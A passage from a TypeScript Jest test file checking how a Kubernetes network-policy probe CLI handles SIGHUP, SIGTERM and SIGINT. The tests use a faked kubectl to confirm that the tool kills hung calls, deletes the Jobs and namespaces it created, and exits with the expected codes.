    while (!fake.calls().some(c => c.args[0] === 'get' && c.args.some(a => a.startsWith('--selector='))) && Date.now() < deadline) await new Promise(r => setTimeout(r, 50));
    child.kill(signal);
    const code = await exited;
    expect({ code, stderr }).toEqual({ code: exitCode, stderr: expect.stringContaining(`${signal}: stopping and deleting the probe objects`) });
    expectEverythingDeleted();
  }, 90_000);

  test('SIGHUP, then SIGTERM while the deletes hang: one cleanup, each delete killed at its deadline and reported with the command to finish it, exit 129', async () => {
    fake.respond(responses(podsOf(plan, () => ({ running: {} })), [{ when: 'delete', hang: true }]));
    const child = spawn(process.execPath, ['-r', 'ts-node/register/transpile-only', path.join(ROOT, 'src/cli/main.ts'),
      'probe', 'run', shop, '--run-id', RUN_ID, '--poll-interval', '50', '--deadline', '600', '--kubectl-timeout', '2'], { cwd: ROOT, env: process.env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', d => { stderr += String(d); });
    const exited = new Promise<number | null>(resolve => child.on('exit', code => resolve(code)));
    const waitFor = async (what: () => boolean) => {
      for (const until = Date.now() + 60_000; !what() && Date.now() < until;) await new Promise(r => setTimeout(r, 50));
    };
    await waitFor(() => fake.calls().some(c => c.args.some(a => a.startsWith('--selector='))));
    child.kill('SIGHUP');
    await waitFor(() => fake.calls().some(c => c.args[0] === 'delete'));
    child.kill('SIGTERM');
    expect(await exited).toBe(129);
    expect(stderr).toContain('SIGHUP: stopping and deleting the probe objects');
    expect(stderr).toContain('SIGTERM: already stopping; deleting the probe objects');
    // every delete ran (and was killed at its deadline), each reported with what finishes the job
    expect(fake.calls().filter(c => c.args[0] === 'delete').map(c => `${c.args[1]} ${c.args[c.args.length - 1]}`).sort()).toEqual(
      // the Jobs of each namespace (shop, the representatives', the probe namespace), then the namespaces the run created
      ['job netpol-probe-t1-p12', 'job netpol-probe-t1-p15', 'job netpol-probe-t1-p16', 'job netpol-probe-t1-p19',
        'namespace ingress-nginx', 'namespace monitoring', 'namespace netpol-probe']);
    expect(stderr).toMatch(/kubectl delete job --namespace=shop .*: did not finish within 2 s: killed; delete what it left with: kubectl delete job --namespace=shop --selector=netpol.cdk8s.io\/probe-run=t1/);
    expect(stderr).toMatch(/kubectl delete namespace --ignore-not-found --wait=false -- netpol-probe: did not finish within 2 s: killed; delete what it left with: kubectl delete namespace netpol-probe/);
  }, 120_000);

  test('SIGINT while a kubectl call hangs kills it, deletes what was applied and exits 130', async () => {
    fake.respond(responses(podsOf(plan, enforced), [{ when: 'get pods --namespace=shop --selector=', hang: true }]));
    const child = spawn(process.execPath, ['-r', 'ts-node/register/transpile-only', path.join(ROOT, 'src/cli/main.ts'),
      'probe', 'run', shop, '--run-id', RUN_ID, '--poll-interval', '50', '--deadline', '600'], { cwd: ROOT, env: process.env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', d => { stderr += String(d); });
    const exited = new Promise<number | null>(resolve => child.on('exit', code => resolve(code)));
    const hung = () => fake.calls().find(c => c.args.join(' ').includes('get pods --namespace=shop --selector='));
    const deadline = Date.now() + 60_000;
    while (!hung() && Date.now() < deadline) await new Promise(r => setTimeout(r, 50));
    child.kill('SIGINT');
    const code = await exited;
    expect({ code, stderr }).toEqual({ code: 130, stderr: expect.stringContaining('SIGINT: stopping and deleting the probe objects') });
    expectEverythingDeleted();
    // the hung kubectl is gone (reaped once its parent has exited: allow it a moment)
    const alive = () => { try { process.kill(hung()!.pid, 0); return true; } catch { return false; } };
    for (let i = 0; i < 250 && alive(); i++) await new Promise(r => setTimeout(r, 20));
    expect(alive()).toBe(false);
  }, 90_000);
});
